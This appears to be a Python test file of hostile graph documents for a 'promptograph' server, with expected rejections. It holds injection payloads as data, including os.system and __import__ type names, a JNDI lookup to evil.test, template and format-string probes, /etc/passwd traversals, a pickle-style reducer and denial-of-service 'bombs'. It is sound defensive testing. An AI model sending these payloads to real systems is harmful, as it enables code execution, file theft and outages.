"""Documents that are no graphs, or graphs that must not be run: types, walks, links, cycles and bombs."""

import json
from collections.abc import Callable
from typing import Any

from tests.server.hostile.rows import OK_DOCUMENT, Rows, changed, node, post, run

BAD_GRAPH, BAD_JSON = (422, "bad_graph"), (400, "bad_json")

TYPES: Rows = [
    run(f"type: {type_!r}"[:60], node(type=type_))
    for type_ in (
        "os.system", "__import__('os').system('true')", "builtins/eval", "builtins/Exec", "../Step", "Step.__class__",
        "Step\n", "Step\x7f", "step", "tests.server.toys:Die", "torch/Load", "{Step}", "S" * 129, "/Step", "Ѕtep", "",
        None, 7, True, ["Step"], {"Step": 1}, "Subgraph", "PickleLoad", "__main__", "Step Step",
    )
]  # fmt: skip

NAMES: Rows = [
    run(f"node: {id_!r}"[:60], {"format": "promptograph/1", "nodes": {id_: {"type": "Step"}}})
    for id_ in (
        "../token", "/etc/passwd", "", "Count", "a b", "a\n", "a/b", "a.b", "é", "__class__", "{{7*7}}",
        "${jndi:ldap://evil.test}", "%(a)s", "<script>", "a" * 65, "7a",
    )
]  # fmt: skip

WALKS: Rows = [
    run("param: the class", node(params={"__class__": "x"})),
    run("param: the constructor", node(params={"__init__": {}})),
    run("param: a walk", node(params={"a.__class__.__mro__": 1})),
    run("param: what the run has", node(params={"run": {}})),
    run("param: a format field for a number", node(params={"a": "{0.__class__.__init__.__globals__}"})),
    run("param: a template for a number", node(params={"a": "{{ 7*7 }}"})),
    run("param: code for a number", node(params={"a": "__import__('os').getpid()"})),
    run("param: true for a number", node(params={"a": True})),
    run("param: a fraction for an integer", node(params={"a": 1.5})),
    run("param: a list for a number", node(params={"a": [1]})),
    run("param: null for a number", node(params={"a": None})),
    run("param: a number for a text", node(params={"name": 7})),
    run("param: an object that says what it is", node(params={"name": {"__type__": "Tensor", "file": "/etc/passwd"}})),
    run("input: the class", node(inputs={"__class__": "count.number"})),
    run("field: code", node(code="import os")),
    run("field: the class", node(__class__="Step")),
    run("field: a reducer", node(__reduce__=["os.system", "true"])),
    run("version: zero", node(version=0)),
    run("version: below zero", node(version=-1)),
    run("version: not here", node(version=99)),
    run("version: beyond 32 bits", node(version=2**31)),
    run("version: a text", node(version="1")),
    run("version: a fraction", node(version=1.0)),
    run("version: true", node(version=True)),
    run("title: 1,001 letters", node(title="t" * 1_001)),
    run("title: a list", node(title=["t"])),
]

LINKS: Rows = [
    run(f"link: {link!r}"[:60], changed(nodes={"count": {"type": "Step", "inputs": {"a": link}}}))
    for link in (
        "a/b.c[999999999999]", "count.number[-1]", "count.number[01]", "count..number", ".number", "count.", "count",
        "count.number.real", "../count.number", "count.number\n", "cоunt.number", "", "a/" * 40_000 + "b.c", 7, None,
        True, {"count": "number"}, [["count.number"]], [7], "nobody.number", "other/nobody.number", "count.__class__",
        "count.nothing", ["count.number"] * 3, "count.number",
    )
] + [
    run("cycle: of two", changed(nodes={
        "count": {"type": "Step", "inputs": {"a": "b.number"}}, "b": {"type": "Step", "inputs": {"a": "count.number"}},
    })),
    run("output: of no node", changed(outputs={"x": "nobody.number"})),
    run("output: an item of no list", changed(outputs={"x": "count.number[999999999]"})),
    run("output: a path for a name", changed(outputs={"../x": "count.number"})),
    run("output: code for a link", changed(outputs={"x": "count.number if 1 else 0"})),
    run("public input: to no node", changed(inputs={"a": {"to": ["nobody.a"]}})),
    run("public input: to an item", changed(inputs={"a": {"to": ["count.a[0]"]}})),
    run("public input: to the class", changed(inputs={"a": {"to": ["count.__class__"]}})),
    run("public input: a text", changed(inputs={"a": "count.a"})),
]  # fmt: skip

SHAPES: Rows = [
    run("format: of the future", changed(format="promptograph/999")),
    run("format: of the past", changed(format="promptograph/0")),
    run("format: null", changed(format=None)),
    run("format: a list", changed(format=["promptograph/1"])),
    run("format: a path", changed(format="promptograph/../../1")),
    run("another program's graph", {"3": {"class_type": "KSampler", "inputs": {"seed": 1}}}),
    run("nodes: a list", changed(nodes=[{"type": "Step"}])),
    run("nodes: null", changed(nodes=None)),
    run("nodes: texts", changed(nodes={"count": "Step"})),
    run("name: 1,001 letters", changed(name="n" * 1_001)),
    run("name: a number", changed(name=7)),
    run("ui: a list", changed(ui=[])),
    run("field: unknown", changed(script="import os")),
    run("field: a prototype", changed(__proto__={"nodes": {}})),
    run("target: code", OK_DOCUMENT, targets=["__import__('os')"]),
    run("target: a path", OK_DOCUMENT, targets=["../../token"]),
    run("target: the class", OK_DOCUMENT, targets=["count.__class__"]),
    run("target: an item without end", OK_DOCUMENT, targets=["count.number[999999999999]"]),
    run("input: not public", OK_DOCUMENT, inputs={"__class__": 1}),
    run("input: a walk", OK_DOCUMENT, inputs={"count.log.__class__": 1}),
    run("input: of another type", OK_DOCUMENT, inputs={"a": {"$ref": "file:///etc/passwd"}}),
    run("input: a fraction", OK_DOCUMENT, inputs={"a": 0.5}),
    run("subgraph: a path", changed(nodes={"count": {"type": "Subgraph", "graph": "../../etc/passwd"}})),
    run("subgraph: a line end", changed(nodes={"count": {"type": "Subgraph", "graph": "seeds\n"}})),
    run("subgraph: not here", changed(nodes={"count": {"type": "Subgraph", "graph": "nothing-like-it"}})),
    run("subgraph: a number", changed(nodes={"count": {"type": "Subgraph", "graph": 7}})),
    run("subgraph: on another type", changed(nodes={"count": {"type": "Step", "graph": "seeds"}})),
    run("subgraph: of another type inside", changed(nodes={"count": {"type": "Subgraph", "graph": {"nodes": 1}}})),
    run("library: a path", {"library": "../seeds"}, (422, "bad_request")),
    run("library: a line end", {"library": "seeds\n"}, (422, "bad_request")),
    run("library: not here", {"library": "nothing-like-it"}, (404, "not_found")),
    run("saved: a line end", {"saved": "g_" + "A" * 22 + "\n"}, (422, "bad_request")),
    run("saved: not here", {"saved": "g_" + "A" * 22}, (404, "not_found")),
    run("saved: a revision that is not", {"saved": "<graph>", "revision": 2}, (404, "not_found")),
    run("saved: a revision beyond 32 bits", {"saved": "<graph>", "revision": 2**31}, (422, "bad_request")),
]


def nested(levels: int) -> Any:
    """Give a document with a subgraph in a subgraph and so on."""
    document: Any = {"nodes": {"a": {"type": "Step"}}}
    for _ in range(levels):
        document = {"nodes": {"a": {"type": "Subgraph", "graph": document}}}
    return {"format": "promptograph/1", **document}


def many(count: int, node: str) -> Callable[[], bytes]:
    """Make an order with many equal nodes when it is sent."""

    def made() -> bytes:
        nodes = ",".join(f'"n{number}":{node}' for number in range(count))
        return b'{"graph":{"nodes":{%s}}}' % nodes.encode()

    return made


def wires(count: int) -> Callable[[], bytes]:
    """Make an order with a node that many links lead to."""
    links = '"n.o",' * count
    return lambda: b'{"graph":{"nodes":{"t":{"type":"Total","inputs":{"numbers":[%s"n.o"]}}}}}' % links.encode()


def chain(count: int, *, closed: bool) -> Callable[[], bytes]:
    """Make an order with a chain of nodes; a closed one has no beginning."""

    def made() -> bytes:
        nodes = {f"n{at}": {"type": "Step", "inputs": {"a": f"n{at - 1}.number"}} for at in range(1, count)}
        nodes["n0"] = {"type": "Step", "inputs": {"a": f"n{count - 1}.number"} if closed else {"a": "nobody.number"}}
        return json.dumps({"graph": {"nodes": nodes}}).encode()

    return made


BOMBS: Rows = [
    run("bomb: 17 levels of subgraphs", nested(17)),
    run("bomb: 30 levels of subgraphs", nested(30), BAD_JSON),
    post("bomb: 60,000 nodes", "/api/v1/runs", many(60_000, '{"type":"Step"}'), BAD_GRAPH),
    post("bomb: 20,000 nodes of no type", "/api/v1/runs", many(20_000, '{"type":"Nothing"}'), BAD_GRAPH),
    post("bomb: 20,000 broken nodes", "/api/v1/runs", many(20_000, '{"typ":7}'), BAD_GRAPH),
    post("bomb: 20,000 graphs in one", "/api/v1/check",
         many(20_000, '{"type":"Subgraph","graph":"text-to-image"}'), BAD_GRAPH),
    post("bomb: 20,000 graphs in a run", "/api/v1/runs",
         many(20_000, '{"type":"Subgraph","graph":"text-to-image"}'), BAD_GRAPH),
    post("bomb: 400,000 links", "/api/v1/runs", wires(400_000), BAD_GRAPH),
    post("bomb: 600,000 links", "/api/v1/runs", wires(600_000), BAD_JSON),
    post("bomb: a circle of 20,000", "/api/v1/runs", chain(20_000, closed=True), BAD_GRAPH),
    post("bomb: a chain of 20,000 from nowhere", "/api/v1/plan", chain(20_000, closed=False), BAD_GRAPH),
    run("bomb: a list in lists", node(params={"name": json.loads("[" * 50 + "]" * 50)})),
    run("bomb: a number beyond 64 bits", node(params={"a": 2**63}), BAD_JSON),
    run("bomb: a text of a million for a number", node(params={"a": "9" * 1_000_000})),
    run("bomb: a text beyond a million", node(params={"name": "x" * 1_000_001}), BAD_JSON),
    run("bomb: a title of a million", changed(name="n" * 1_000_000)),
    run("bomb: 1,001 targets", OK_DOCUMENT, (422, "bad_request"), targets=["count.number"] * 1_001),
    run("bomb: 1,000 targets of no node", OK_DOCUMENT, targets=[f"n{number}.number" for number in range(1_000)]),
]  # fmt: skip

DOCUMENTS = [*TYPES, *NAMES, *WALKS, *LINKS, *SHAPES, *BOMBS]
